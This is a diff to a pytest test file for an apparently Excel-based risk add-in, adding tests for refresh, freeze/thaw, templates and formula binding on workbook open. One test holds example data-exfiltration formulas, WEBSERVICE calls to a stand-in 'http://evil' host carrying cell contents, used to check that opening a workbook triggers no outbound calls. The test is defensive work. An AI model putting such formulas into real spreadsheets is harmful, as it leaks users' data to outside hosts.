@@ -22,6 +22,7 @@ from xlrisk.hosts.excel.desktop import ExcelDesktop, calling_excel
 from xlrisk.hosts.excel.ribbon import COMMANDS
 
 BETA = "=BETA_OF(A1:A9,B1:B9)"
+HIDING = f"=IFERROR({BETA[1:]},0)"
 
 
 @pytest.fixture(autouse=True)
@@ -59,6 +60,13 @@ def test_refreshing(excel: Excel, identifier: str) -> None:
     assert str(excel.app.StatusBar).startswith("xlrisk: 1 formula of xlrisk in ")
 
 
+@pytest.mark.parametrize("identifier", ["refresh_sheet", "refresh_selection", "refresh_workbook"])
+def test_what_refreshing_has_left_is_told(excel: Excel, identifier: str) -> None:
+    excel.workbook.sheet("Data").load("A1", BETA)
+    excel.workbook.sheet("Data").ProtectContents = True
+    assert "unprotect it and refresh." in ribbon.run(identifier, excel.desktop)
+
+
 @pytest.mark.parametrize("identifier", [c.identifier for c in COMMANDS if c.needs_workbook])
 def test_without_a_workbook(excel: Excel, identifier: str) -> None:
     excel.app.ActiveWorkbook = None
@@ -72,6 +80,19 @@ def test_freezing_and_thawing(excel: Excel) -> None:
     assert str(excel.app.StatusBar) == "xlrisk: 1 formula of xlrisk frozen to values."
     ribbon.run("thaw", excel.desktop)
     assert excel.workbook.sheet("Data").cell((1, 3)).formula == BETA
+
+
+def test_what_freezing_and_thawing_have_left_is_told(excel: Excel) -> None:
+    sheet = excel.workbook.sheet("Data")
+    sheet.load("C1", BETA)
+    assert "Data!C1: it shows #NAME?; refresh first." in ribbon.run("freeze", excel.desktop)
+    sheet.Range("C1").Formula2 = BETA
+    assert ribbon.run("freeze", excel.desktop) == ""
+    sheet.cell((1, 3)).value = 9.0
+    told = ribbon.run("thaw", excel.desktop)
+    assert told.startswith("1 formula not put back:\n\nData!C1: the cell was changed or moved")
+    assert told.endswith(f": {BETA}")
+    assert excel.app.StatusBar == "xlrisk: 0 formulas of xlrisk put back; 1 left as they were."
 
 
 def test_a_refusal_is_told(excel: Excel) -> None:
@@ -92,16 +113,19 @@ def test_an_addin_of_another_version_may_have_other_buttons(excel: Excel) -> Non
 
 
 def test_a_template_opens_as_a_new_workbook_whose_formulas_are_bound(excel: Excel) -> None:
-    def load(book: Workbook) -> None:
-        book.sheet("Sheet1").load("C5", BETA)
+    def load(book: Workbook) -> None:  # with values, as all templates have
+        book.sheet("Sheet1").load("C5", BETA, value=0.93)
+        book.sheet("Sheet1").load("C6", HIDING, value=0.93)
 
     excel.app.on_template = load
-    ribbon.run("insert_template:capm_table", excel.desktop)
+    assert ribbon.run("insert_template:capm_table", excel.desktop) == ""
     book = excel.app.ActiveWorkbook
     assert book is not None
     assert book.Name == "capm_table1"
     assert book.data == Path(f"{templates.folder()}/capm_table.xlsx").read_bytes()
-    assert book.sheet("Sheet1").cell((5, 3)).value == 1.5
+    cells = [book.sheet("Sheet1").cell((row, 3)) for row in (5, 6)]
+    assert [(cell.value, cell.bound) for cell in cells] == [(1.5, True)] * 2
+    assert "2 entered anew" in str(excel.app.StatusBar)
 
 
 def test_an_unknown_template_is_told(excel: Excel) -> None:
@@ -147,13 +171,100 @@ def test_a_hostile_sheet_of_settings_changes_nothing(profile: Path) -> None:
     assert excel.workbook.refreshed == 0
 
 
-def test_opening_binds_and_calculates_nothing(excel: Excel) -> None:
+def test_opening_binds_what_shows_that_it_is_not(excel: Excel) -> None:
     excel.workbook.sheet("Other").load("A1", BETA)
     assert ribbon.run("opened", excel.desktop) == ""
     assert excel.workbook.sheet("Other").cell((1, 1)).value == 1.5
     assert excel.app.calculated == []
     ribbon.run("opened", excel.desktop)
     assert excel.app.StatusBar is False  # nothing to say
+
+
+def test_opening_binds_what_a_program_wrote(excel: Excel) -> None:
+    """One that cannot hide #NAME? is calculated, and tells for all."""
+    sheet, other = excel.workbook.sheet("Data"), excel.workbook.sheet("Other")
+    sheet.load("A1", HIDING, value=0.93)
+    sheet.load("A2", BETA, value=0.93)
+    other.load("A1", HIDING, value=0.93)
+    ribbon.run("opened", excel.desktop)
+    assert excel.app.calculated == ["Data!A2"]
+    cells = [sheet.cell((1, 1)), sheet.cell((2, 1)), other.cell((1, 1))]
+    assert [(cell.value, cell.bound) for cell in cells] == [(1.5, True)] * 3
+
+
+def test_opening_enters_nothing_that_is_bound(excel: Excel) -> None:
+    for row, formula in enumerate((HIDING, BETA), 1):
+        excel.workbook.sheet("Data").Range(f"A{row}").Formula2 = formula
+    changes: list[object] = []
+    excel.app.on_change = changes.append
+    ribbon.run("opened", excel.desktop)
+    assert changes == []
+
+
+def test_opening_enters_once_what_only_hides_it(excel: Excel) -> None:
+    """Each time that it is opened, also where Excel shows it in the window that it had."""
+    for _ in range(2):
+        excel.workbook.sheet("Data").load("A1", HIDING, value=0.93)
+        ribbon.run("opened", excel.desktop)
+        assert excel.workbook.sheet("Data").cell((1, 1)).bound
+        ribbon.run("refresh_workbook", excel.desktop)
+        assert "entered anew" not in str(excel.app.StatusBar)
+
+
+def test_what_opening_takes_for_bound_is_entered_once_by_refresh(excel: Excel) -> None:
+    sheet = excel.workbook.sheet("Data")
+    sheet.Range("A1").Formula2 = BETA
+    sheet.load("A2", f"=ROUND({BETA[1:]},2)")
+    sheet.load("A3", HIDING, value=0.93)  # which a program has added since
+    ribbon.run("opened", excel.desktop)
+    assert [sheet.cell((row, 1)).bound for row in (2, 3)] == [True, False]
+    ribbon.run("refresh_sheet", excel.desktop)
+    assert sheet.cell((3, 1)).bound
+
+
+@pytest.mark.parametrize("protected", ["Data", "Other"])
+def test_opening_leaves_a_protected_sheet_as_it_is(excel: Excel, protected: str) -> None:
+    """Not even calculated: it keeps the values of the file, and Refresh names it."""
+    for name in ("Data", "Other"):
+        excel.workbook.sheet(name).load("A1", BETA, value=0.93)
+    excel.workbook.sheet(protected).ProtectContents = True
+    assert ribbon.run("opened", excel.desktop) == ""
+    values = {name: excel.workbook.sheet(name).cell((1, 1)).value for name in ("Data", "Other")}
+    assert values.pop(protected) == 0.93
+    assert list(values.values()) == [1.5]
+
+
+@pytest.mark.parametrize(
+    ("text", "value"),
+    [
+        (f'{BETA}+WEBSERVICE("http://evil/?"&A1)', 0.93),  # which calculating would have ask
+        (f'{BETA}+WEBSERVICE("http://evil/?"&A1)', "#NAME?"),
+        (f'=IF(A9=0,{BETA[1:]},WEBSERVICE("http://evil"))', 0.93),
+        (f"{BETA}+leak", 0.93),
+    ],
+)
+@pytest.mark.parametrize("other", [BETA, HIDING])
+def test_opening_sets_nothing_off_that_reaches_out(
+    excel: Excel, text: str, value: Any, other: str
+) -> None:
+    excel.workbook.Names.Add("leak", '=WEBSERVICE("http://evil")')
+    excel.workbook.sheet("Data").load("A1", text, value=value)
+    excel.workbook.sheet("Data").load("A2", other, value=0.93)
+    ribbon.run("opened", excel.desktop)
+    assert not excel.workbook.sheet("Data").cell((1, 1)).bound
+    assert excel.workbook.sheet("Data").cell((2, 1)).bound
+    assert excel.app.calculated == (["Data!A2"] if other == BETA else [])
+    ribbon.run("refresh_sheet", excel.desktop)  # which somebody has asked for
+    assert excel.workbook.sheet("Data").cell((1, 1)).bound
+
+
+@pytest.mark.parametrize("saved", [True, False])
+def test_opening_makes_no_workbook_ask_to_be_saved(excel: Excel, saved: bool) -> None:
+    excel.workbook.sheet("Data").load("A1", BETA, value=0.93)
+    excel.workbook.Saved = saved
+    ribbon.run("opened", excel.desktop)
+    assert excel.workbook.sheet("Data").cell((1, 1)).bound
+    assert excel.workbook.Saved is saved
 
 
 def test_opening_binds_the_workbook_that_was_opened(excel: Excel) -> None:
